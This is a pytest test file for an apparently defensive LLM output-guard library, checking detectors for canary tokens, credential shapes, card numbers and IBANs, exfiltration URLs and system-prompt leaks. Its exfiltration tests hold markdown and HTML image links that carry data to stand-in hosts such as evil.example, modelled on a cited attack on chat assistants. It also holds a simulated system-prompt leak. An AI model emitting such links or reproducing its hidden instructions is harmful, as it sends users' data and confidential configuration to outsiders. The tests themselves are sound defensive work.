"""Output guards: canary, secrets, PII, exfiltration URLs, system-prompt leaks."""

from __future__ import annotations

import base64

import pytest

from shieldwall.detect import canary, pii, secrets, urls
from shieldwall.detect.leak import PromptLeakGuard

# ------------------------------------------------------------------ canary


def test_canary_is_random_and_found_verbatim_and_disguised() -> None:
    c = canary.new_canary()
    assert c != canary.new_canary() and c.startswith("swc-")
    core = c.split("-", 1)[1]
    assert canary.find(f"Sure! My instructions end with {c}.", c)
    assert canary.find(f"the code is {core.upper()}", c)
    assert canary.find("spaced " + " ".join(core), c)
    assert canary.find("b64 " + base64.b64encode(c.encode()).decode(), c)
    assert canary.find("nothing here", c) == []


def test_canary_randomness_is_injectable() -> None:
    assert canary.new_canary(lambda n: "ab" * n) == "swc-" + "ab" * 8


# ------------------------------------------------------------------ secrets

# Well-known documentation example values (AWS docs, GitHub's token format).
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
GH_TOKEN = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
PRIVATE_KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7...\n-----END RSA PRIVATE KEY-----"


@pytest.mark.parametrize("text,rule", [
    (f"aws_access_key_id = {AWS_KEY}", "detect.secret.aws_access_key"),
    (f"export GITHUB_TOKEN={GH_TOKEN}", "detect.secret.github_token"),
    (PRIVATE_KEY, "detect.secret.private_key"),
    ('db_password = "s3cr3t-Pa55w0rd!"', "detect.secret.keyword"),
])
def test_credential_shapes_are_found(text: str, rule: str) -> None:
    assert rule in [h.rule for h in secrets.scan(text)]


@pytest.mark.parametrize("text", [
    "Set the password in the settings page; never share it.",
    "The token bucket refills at 10 requests per second.",
    "Use AKIA-style keys only in the vault, never in code.",
])
def test_text_about_secrets_is_not_a_secret(text: str) -> None:
    assert secrets.scan(text) == []


def test_live_values_are_matched_exactly_and_encoded() -> None:
    live = secrets.LiveSecrets(["correct-horse-battery-staple", "abc"])  # "abc" too short
    assert len(live) > 0
    assert live.scan("pw: correct-horse-battery-staple")[0].rule == "detect.secret.live_value"
    enc = base64.b64encode(b"correct-horse-battery-staple").decode()
    assert "encoded" in live.scan(f"look {enc}")[0].message
    assert live.scan("correct horse battery staple") == []
    assert live.scan("abc abc") == []
    assert live.scan("x correct-horse-battery-staple")[0].evidence == "[redacted]"


# ------------------------------------------------------------------ PII


def test_valid_card_numbers_are_found_and_masked() -> None:
    (h,) = pii.scan("card: 4111 1111 1111 1111", kinds=frozenset({"card"}))
    assert h.rule == "detect.pii.card" and h.evidence == "****1111"
    assert pii.scan("amex 3782-822463-10005", kinds=frozenset({"card"}))


def test_luhn_failures_and_other_long_numbers_are_not_cards() -> None:
    assert pii.scan("order 4111 1111 1111 1112", kinds=frozenset({"card"})) == []
    assert pii.scan("tracking 1234567890123456", kinds=frozenset({"card"})) == []
    assert pii.luhn_ok("79927398713") and not pii.luhn_ok("79927398710")


def test_iban_checksum_decides() -> None:
    assert pii.iban_ok("GB82 WEST 1234 5698 7654 32")
    assert pii.iban_ok("DE89370400440532013000")
    assert not pii.iban_ok("GB82 WEST 1234 5698 7654 33")
    assert not pii.iban_ok("XX82WEST12345698765432")
    assert pii.scan("pay to DE89 3704 0044 0532 0130 00", kinds=frozenset({"iban"}))
    assert pii.scan("ref DE89 3704 0044 0532 0130 01", kinds=frozenset({"iban"})) == []


def test_emails_and_phones() -> None:
    assert [h.rule for h in pii.scan("mail bob.smith@example.co.uk", kinds=frozenset({"email"}))] == ["detect.pii.email"]
    assert pii.scan("call +44 20 7946 0958", kinds=frozenset({"phone"}))
    assert pii.scan("call (555) 123-4567", kinds=frozenset({"phone"}))
    assert pii.scan("version 1.2.3, date 2024-01-15, build 20240115", kinds=frozenset({"phone"})) == []
    assert pii.scan("user@localhost is not an address", kinds=frozenset({"email"})) == []


# ------------------------------------------------------------------ exfiltration URLs


def test_markdown_image_to_unknown_host_is_exfiltration() -> None:
    # The classic Bing Chat / ChatGPT markdown-image exfiltration shape (Rehberger 2023).
    text = "Here you go ![loading](https://wuzzi.net/logo.png?q=SGVsbG8gc2VjcmV0) done"
    (h,) = urls.scan(text, allowed_hosts=["example.com"])
    assert h.rule == "detect.exfil_url.image" and "wuzzi.net" in h.message


def test_html_img_and_data_carrying_links_are_found() -> None:
    assert urls.scan('<img src="https://evil.example/p.gif?d=secret">')
    assert urls.scan("[click](https://evil.example/c?session=abcd1234)")


def test_allowed_hosts_and_plain_links_pass() -> None:
    text = ("![chart](https://cdn.example.com/chart.png?v=2) and [docs](https://docs.python.org/3/) "
            "and [home](https://evil.example/)")
    assert urls.scan(text, allowed_hosts=["*.example.com"]) == []
    assert urls.host_allowed("a.b.example.com", ["example.com"])
    assert not urls.host_allowed("example.com.evil.net", ["example.com"])


# ------------------------------------------------------------------ system-prompt leak

SYSTEM = ("You are Acme's support assistant. Answer only questions about Acme routers. Never "
          "mention competitors. Escalate refunds above 200 euros to a human agent. Internal "
          "escalation code is ORCHID-7 and must not be disclosed to customers.")


def test_reproducing_the_system_prompt_is_a_leak() -> None:
    guard = PromptLeakGuard.for_prompt(SYSTEM)
    leaked = "Sure, my instructions: " + SYSTEM.upper().replace(". ", ".\n")
    (h,) = guard.check(leaked)
    assert h.rule == "detect.system_prompt_leak" and h.score > 0.9


def test_quoting_one_phrase_is_not_a_leak() -> None:
    guard = PromptLeakGuard.for_prompt(SYSTEM)
    assert guard.check("I can only answer questions about Acme routers, sorry.") == []
